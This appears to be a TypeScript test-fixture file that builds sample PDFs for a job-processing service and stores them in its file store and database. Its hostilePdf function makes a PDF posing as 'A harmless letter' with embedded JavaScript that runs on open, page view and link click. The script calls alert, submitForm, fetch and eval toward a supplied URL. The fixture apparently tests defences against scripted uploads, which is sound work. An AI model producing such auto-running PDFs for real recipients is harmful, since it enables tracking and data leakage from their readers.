/** Documents of jobs as portals give them: PDFs of several pages, hostile ones, and pictures. */
import { randomUUID } from 'node:crypto';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import type { Deps } from '#api/deps.ts';

/** A PDF whose pages say their number, each in letters of 40 points. */
export async function pagedPdf(pages: number): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let page = 1; page <= pages; page += 1) {
    const size: [number, number] = [420, 595];
    document.addPage(size).drawText(`This is page ${page}`, { x: 60, y: 480, size: 40, font });
  }
  return document.save();
}

/** Runs a script when it is opened, when its page is shown and when its link is clicked, if its reader runs scripts. */
export async function hostilePdf(reaches: string): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const page = document.addPage([420, 595]);
  page.drawText('A harmless letter', { x: 60, y: 480, size: 30, font });
  const script = `app.alert('owned'); this.submitForm('${reaches}'); fetch('${reaches}'); eval("fetch('${reaches}')");`;
  const action = () => document.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) });
  document.addJavaScript('start', script);
  document.catalog.set(PDFName.of('OpenAction'), action());
  page.node.set(PDFName.of('AA'), document.context.obj({ O: action() }));
  const link = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 420, 595], A: action() };
  page.node.set(PDFName.of('Annots'), document.context.obj([link]));
  return document.save();
}

/** Stores a document of a job's row, in the store and in the database, and names it in the row. */
export async function keepDocument(
  { db, files }: Pick<Deps, 'db' | 'files'>,
  of: { jobId: string; rowNumber: number; kind?: 'document' | 'evidence' | 'result' },
  { name, bytes, contentType = 'application/pdf' }: { name: string; bytes: Uint8Array; contentType?: string },
): Promise<string> {
  const { jobId, rowNumber, kind = 'document' } = of;
  const fileKey = `jobs/${jobId}/documents/${rowNumber}/${randomUUID()}`;
  await files.put(fileKey, bytes, contentType);
  const { id } = await db.jobFile.create({
    data: { jobId, rowNumber, kind, name, fileKey, contentType, sizeBytes: bytes.byteLength },
  });
  if (kind !== 'document') return id;
  const place = { jobId_rowNumber: { jobId, rowNumber } };
  const { documents } = await db.jobRow.findUniqueOrThrow({ where: place, select: { documents: true } });
  const named = [...((documents ?? []) as { name: string }[]), { name }];
  await db.jobRow.update({ where: place, data: { documents: named } });
  return id;
}
